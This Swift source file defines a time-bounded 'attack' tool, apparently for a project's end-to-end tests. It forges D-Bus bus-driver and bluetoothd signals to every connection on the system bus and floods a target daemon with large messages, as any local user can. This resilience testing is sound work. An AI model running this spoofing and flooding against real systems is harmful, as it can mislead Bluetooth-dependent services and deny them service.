import ArgumentParser
import CommandLineArguments
import DBus
import DurationUnits
import Foundation

/// What any local user can do to a daemon on the system bus, for `make e2e`'s
/// attack scenarios (`forged-bus-signals`, `bus-flood`): run it as an
/// unprivileged user against the real dbus-daemon with Debian's policy. Every
/// run is bounded in time and prints its figures as one JSON line.
struct AttackCommand: AsyncParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "attack",
        abstract: "Forge signals to, or flood, a daemon's bus connection, as any local user can (for make e2e).",
        discussion: """
            The system bus lets every user send signals, and a signal with a destination reaches that \
            connection whatever its match rules say. `forge` claims to be the bus driver and bluetoothd; \
            `flood` sends large messages as fast as the bus takes them. Both stop after --seconds.
            """,
        subcommands: [Forge.self, Flood.self]
    )

    struct BusOptions: ParsableArguments {
        @Option(help: "The bus address (default: the system bus, or DBUS_SYSTEM_BUS_ADDRESS).")
        var bus: String?

        @Option(help: "The victim: a bus name (io.tether.Tether) or a unique name (:1.42).")
        var victim = "io.tether.Tether"

        @Option(help: "How long to keep at it.")
        var seconds = DurationArgument(.seconds(10))

        func connect() async throws -> (Bus, String) {
            let bus: Bus
            if let address = self.bus { bus = try await Bus.connect(address: address) } else { bus = try await Bus.system() }
            guard victim.hasPrefix(":") else {
                guard let owner = try await bus.nameOwner(of: victim) else {
                    throw ValidationError("nobody owns \(victim)")
                }
                return (bus, owner)
            }
            return (bus, victim)
        }
    }

    static func printFigures(_ figures: [String: Any]) {
        if let data = try? JSONSerialization.data(withJSONObject: figures, options: [.sortedKeys]),
           let line = String(data: data, encoding: .utf8)
        {
            print(line)
        }
    }

    /// Forged NameOwnerChanged (bluetoothd gone, then "I am org.bluez"),
    /// PropertiesChanged(Value) on the characteristics given, Connected=false
    /// on the device, and StateChanged of the control interface: to the
    /// victim, to every connection on the bus (unicast, so no match rule
    /// stops them), and broadcast.
    struct Forge: AsyncParsableCommand {
        static let configuration = CommandConfiguration(
            abstract: "Send forged bus-driver, bluetoothd and Tether signals, repeatedly, for --seconds."
        )

        @OptionGroup var options: BusOptions

        @Option(help: "A characteristic path to forge Value notifications on (repeatable).")
        var characteristic: [String] = []

        @Option(help: "The dongle's device path, to forge Connected=false on.")
        var device: String?

        @Option(help: "The forged Value, in hex.")
        var payload = "eeeeeeee666f72676564"

        @Option(help: "The control object whose StateChanged is forged.")
        var controlPath = "/io/tether/Tether"

        func run() async throws {
            let (bus, victim) = try await options.connect()
            let me = await bus.uniqueName
            let bluez = try await bus.nameOwner(of: "org.bluez") ?? ""
            let bytes = try Self.bytes(payload)
            let characteristics = try characteristic.map { path in
                guard let object = ObjectPath(path) else { throw ValidationError("not an object path: \(path)") }
                return object
            }
            let device = try device.map { path in
                guard let object = ObjectPath(path) else { throw ValidationError("not an object path: \(path)") }
                return object
            }
            guard let control = ObjectPath(controlPath) else { throw ValidationError("not an object path: \(controlPath)") }
            var sent = 0
            var refused = 0
            var rounds = 0
            let deadline = ContinuousClock.now + options.seconds.duration
            while ContinuousClock.now < deadline {
                // Everyone on the bus, the victim first: a CLI waiting for StateChanged too.
                let names = (try? await bus.call(
                    destination: "org.freedesktop.DBus", path: "/org/freedesktop/DBus", interface: "org.freedesktop.DBus",
                    method: "ListNames"
                ).first?.stringArray) ?? []
                let destinations: [String?] = [victim] + names.filter { $0.hasPrefix(":") && $0 != victim && $0 != me } + [nil]
                for destination in destinations {
                    var forged: [(ObjectPath, String, String, [DBusValue])] = [
                        ("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", [.string("org.bluez"), .string(bluez), .string("")]),
                        ("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged", [.string("org.bluez"), .string(""), .string(me)]),
                    ]
                    for path in characteristics {
                        forged.append((path, "org.freedesktop.DBus.Properties", "PropertiesChanged", [
                            .string("org.bluez.GattCharacteristic1"), .vardict(["Value": .bytes(bytes)]), .strings([]),
                        ]))
                    }
                    if let device {
                        forged.append((device, "org.freedesktop.DBus.Properties", "PropertiesChanged", [
                            .string("org.bluez.Device1"),
                            .vardict(["Connected": .boolean(false), "ServicesResolved": .boolean(false)]), .strings([]),
                        ]))
                    }
                    forged.append((control, "io.tether.Tether1", "StateChanged", [.string("waiting-for-data"), .string("online"), .string("forged")]))
                    for (path, interface, member, body) in forged {
                        do {
                            try await bus.emit(path: path, interface: interface, member: member, body, destination: destination)
                            sent += 1
                        } catch {
                            refused += 1
                        }
                    }
                }
                // A round trip: what was sent has reached the bus.
                _ = try? await bus.nameOwner(of: "org.freedesktop.DBus")
                rounds += 1
                try await Task.sleep(for: .milliseconds(200))
            }
            AttackCommand.printFigures(["forged_sent": sent, "forged_refused": refused, "rounds": rounds, "victim": victim])
            await bus.close()
        }

        static func bytes(_ hex: String) throws -> [UInt8] {
            let digits = Array(hex.utf8)
            guard digits.count % 2 == 0 else { throw ValidationError("--payload: an even number of hex digits") }
            return try stride(from: 0, to: digits.count, by: 2).map { index in
                guard let byte = UInt8(String(decoding: digits[index..<index + 2], as: UTF8.self), radix: 16) else {
                    throw ValidationError("--payload: not hex")
                }
                return byte
            }
        }
    }

    /// Large unicast signals (ignored by every rule of the victim's), and
    /// method calls the bus policy lets anyone make (the control object's
    /// Properties.GetAll) with a large body of the wrong signature, as fast
    /// as the bus takes them: a round trip to the bus after every batch
    /// keeps this process's own queue bounded.
    struct Flood: AsyncParsableCommand {
        static let configuration = CommandConfiguration(
            abstract: "Flood the victim's connection with large unicast signals and calls for --seconds."
        )

        @OptionGroup var options: BusOptions

        @Option(help: "Bytes in each message's body.")
        var size = 1 << 20

        @Option(help: "Messages between round trips to the bus.")
        var batch = 8

        @Option(help: "The object the calls go to.")
        var controlPath = "/io/tether/Tether"

        func run() async throws {
            let (bus, victim) = try await options.connect()
            guard let control = ObjectPath(controlPath) else { throw ValidationError("not an object path: \(controlPath)") }
            let body = DBusValue.bytes(Array(repeating: 0x5A, count: max(0, size)))
            let started = ContinuousClock.now
            let deadline = started + options.seconds.duration
            var signals = 0
            var calls = 0
            var errors: [String: Int] = [:]
            var answered = 0
            while ContinuousClock.now < deadline {
                for index in 0..<max(1, batch) {
                    if index % 2 == 0 {
                        do {
                            try await bus.emit(path: "/", interface: "org.example.Flood", member: "Flood", [body], destination: victim)
                            signals += 1
                        } catch {
                            errors["emit", default: 0] += 1
                        }
                    } else {
                        calls += 1
                        do {
                            _ = try await bus.call(
                                destination: victim, path: control, interface: "org.freedesktop.DBus.Properties", method: "GetAll",
                                [body], timeout: .seconds(5)
                            )
                            answered += 1
                        } catch {
                            errors[error.name, default: 0] += 1
                        }
                    }
                }
                _ = try? await bus.nameOwner(of: "org.freedesktop.DBus")
            }
            let seconds = started.duration(to: .now).inSeconds
            var figures: [String: Any] = [
                "flood_signals": signals, "flood_calls": calls, "flood_answered": answered, "flood_size": size,
                "flood_seconds": (seconds * 10).rounded() / 10,
                "flood_mib": Double((signals + calls) * size) / 1_048_576,
                "victim": victim,
            ]
            for (name, count) in errors { figures["error " + name] = count }
            AttackCommand.printFigures(figures)
            await bus.close()
        }
    }
}
